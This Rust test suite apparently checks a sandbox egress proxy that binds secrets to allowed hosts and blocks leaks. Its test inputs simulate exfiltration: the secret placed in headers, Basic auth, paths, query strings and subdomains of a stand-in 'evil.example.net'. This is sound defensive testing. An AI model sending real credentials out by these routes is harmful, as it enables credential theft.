//! A real value that a sandbox should not know: it goes where it is bound, nowhere else, and guessing does not pay.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;

use crate::support::{Protocol, Tollgate, Upstream, full};

const POLICY: &str = r#"
secretStores:
  keys:
    egressAllowlist: [api.example.com, other.example.com, "*.wild.example.com"]
    secrets:
      KEY: { from: { value: $KEY }, allowedHosts: [api.example.com] }
      OTHER: { from: { value: $OTHER }, allowedHosts: [other.example.com] }
sandboxes: { sb-test: { secretStores: [keys] } }
"#;

/// Both hosts, and a sandbox whose KEY was opened once, so that its value is held.
async fn held() -> (Upstream, Upstream, Tollgate) {
    let api = Upstream::https("api.example.com").answering(200, &[], "fine").await;
    let other = Upstream::https("other.example.com").answering(200, &[], "fine").await;
    let config = json!({ "limits": { "exposedHits": "8" } });
    let tollgate = Tollgate::describe(POLICY, &[&api, &other]).config(config).start().await;
    let sandbox = tollgate.sandbox("sb-test");
    let token = sandbox.token("KEY");
    assert_eq!(sandbox.get_with("https://api.example.com/", "x-key", token).await.status, 200);
    (api, other, tollgate)
}

#[tokio::test]
async fn a_real_value_goes_to_its_own_host_and_is_refused_on_the_way_to_any_other() {
    let (api, other, tollgate) = held().await;
    let sandbox = tollgate.sandbox("sb-test");
    let value = tollgate.value("KEY");
    let answer = sandbox.get_with("https://api.example.com/own", "x-key", &value).await;
    assert_eq!(answer.status, 200);
    assert_eq!(api.requests().last().unwrap().header("x-key").unwrap(), value);
    let basic = format!("Basic {}", STANDARD.encode(format!("user:{value}")));
    for (url, field) in [
        ("https://other.example.com/".to_owned(), value.clone()),
        ("https://other.example.com/".to_owned(), format!("Bearer {value}")),
        ("https://other.example.com/".to_owned(), basic),
        (format!("https://other.example.com/{value}"), String::new()),
        (format!("https://other.example.com/?q=a{value}b"), String::new()),
    ] {
        let answer = sandbox.get_with(&url, "x-note", &field).await;
        assert_eq!((answer.status, answer.reason()), (403, "secret_exposed"), "{url} {field}");
    }
    assert!(other.requests().is_empty());
    let events = tollgate.finish().await;
    let alerts: Vec<_> = events.iter().filter(|event| event["event"] == "alert").collect();
    assert_eq!(alerts.len(), 5);
    assert!(alerts.iter().all(|alert| alert["reason"] == "secret_exposed"));
}

#[tokio::test]
async fn a_real_value_in_a_path_that_is_denied_is_not_written_into_the_audit() {
    let (_api, _other, tollgate) = held().await;
    let sandbox = tollgate.sandbox("sb-test");
    let url = format!("https://api.example.com/{}", tollgate.value("KEY"));
    let request = http::Request::builder().method("DEBUG").uri(&url);
    let answer = sandbox.send(request.body(full("")).unwrap()).await;
    assert_eq!(answer.status, 405);
    let events = tollgate.finish().await;
    let denied = events.iter().find(|event| event["method"] == "DEBUG").unwrap();
    assert_eq!(denied["path"], "/tok:KEY");
}

/// A value that differs from what travels where names are compared in lower case.
const MIXED: &str = r#"
secretStores:
  keys:
    egressAllowlist: [api.example.com, other.example.com, "*.wild.example.com"]
    secrets:
      KEY: { from: { value: "Live-KEY-0123-AbCdEfGh" }, allowedHosts: [api.example.com, deep.wild.example.com] }
sandboxes: { sb-test: { secretStores: [keys] } }
"#;

#[tokio::test]
async fn a_real_value_as_part_of_a_name_is_found_in_lower_case_and_written_nowhere() {
    let api = Upstream::https("api.example.com").answering(200, &[], "fine").await;
    let other = Upstream::https("other.example.com").answering(200, &[], "fine").await;
    let tollgate = Tollgate::with(MIXED, &[&api, &other]).await;
    let sandbox = tollgate.sandbox("sb-test");
    let token = sandbox.token("KEY").to_owned();
    assert_eq!(sandbox.get_with("https://api.example.com/", "x-key", &token).await.status, 200);
    let lower = "live-key-0123-abcdefgh";
    for protocol in [Protocol::H1, Protocol::H2] {
        let request = http::Request::get("https://other.example.com/").header(lower, "x");
        let answer = sandbox.send_over(protocol, request.body(full("")).unwrap()).await;
        assert_eq!((answer.status, answer.reason()), (403, "secret_exposed"), "{protocol:?}");
        let url = format!("https://{lower}.wild.example.com/");
        let request = http::Request::get(&url).body(full("")).unwrap();
        let answer = sandbox.send_over(protocol, request).await;
        assert_eq!((answer.status, answer.reason()), (403, "secret_exposed"), "{protocol:?}");
        assert!(!answer.text().contains(lower), "{}", answer.text());
        assert!(answer.text().contains("tok:KEY.wild"), "{}", answer.text());
    }
    let answer = sandbox.get(&format!("https://{lower}.denied.example.net/")).await;
    assert_eq!((answer.status, answer.reason()), (403, "host_not_allowed"));
    assert!(answer.text().contains("tok:KEY.denied.example.net"), "{}", answer.text());
    assert!(other.requests().is_empty());
    assert!(tollgate.dns().questions().iter().all(|name| !name.contains(lower)));
    let events = tollgate.finish().await;
    let named: Vec<_> = events
        .iter()
        .filter(|event| event["host"].as_str().is_some_and(|host| host.contains("tok:KEY")))
        .collect();
    assert!(named.len() >= 3, "{events:#?}");
    let audit = serde_json::to_string(&events).unwrap();
    assert!(!audit.contains(lower), "{audit}");
}

#[tokio::test]
async fn a_real_value_over_plain_http_is_refused_even_towards_its_own_host() {
    let plain = Upstream::http("api.example.com").answering(200, &[], "fine").await;
    let (_api, _other, tollgate) = held().await;
    let sandbox = tollgate.sandbox("sb-test");
    let value = tollgate.value("KEY");
    let answer = sandbox.get_with("http://api.example.com/", "x-key", &value).await;
    assert_eq!((answer.status, answer.reason()), (403, "secret_requires_tls"));
    assert!(plain.requests().is_empty());
    tollgate.finish().await;
}

#[tokio::test]
async fn an_answer_that_leaves_a_value_out_is_counted_like_any_that_confirms_a_guess() {
    let (_api, _other, tollgate) = held().await;
    let sandbox = tollgate.sandbox("sb-test");
    let url = format!("https://{}.evil.example.net/", tollgate.value("KEY"));
    for _ in 0..8 {
        let answer = sandbox.get(&url).await;
        assert_eq!((answer.status, answer.reason()), (403, "host_not_allowed"));
        assert!(answer.text().contains("tok:KEY.evil.example.net"), "{}", answer.text());
    }
    let token = sandbox.token("KEY");
    let bound = sandbox.get_with("https://api.example.com/", "x-key", token).await;
    assert_eq!((bound.status, bound.reason()), (503, "secret_unavailable"));
    tollgate.finish().await;
}

#[tokio::test]
async fn after_so_many_exposures_the_secrets_rest_and_guesses_are_not_answered() {
    let (api, other, tollgate) = held().await;
    let sandbox = tollgate.sandbox("sb-test");
    let value = tollgate.value("KEY");
    for _ in 0..8 {
        let answer = sandbox.get_with("https://other.example.com/", "x-note", &value).await;
        assert_eq!(answer.reason(), "secret_exposed");
    }
    let right = sandbox.get_with("https://other.example.com/", "x-note", &value).await;
    let wrong = sandbox.get_with("https://other.example.com/", "x-note", "a wrong guess").await;
    assert_eq!((right.status, right.reason()), (503, "secret_unavailable"));
    assert_eq!((wrong.status, wrong.reason()), (right.status, right.reason()));
    let before = api.requests().len();
    let token = sandbox.token("KEY");
    let answer = sandbox.get_with("https://api.example.com/", "x-key", token).await;
    assert_eq!((answer.status, answer.reason()), (503, "secret_unavailable"));
    assert_eq!(api.requests().len(), before);
    assert!(other.requests().is_empty());
    tollgate.finish().await;
}
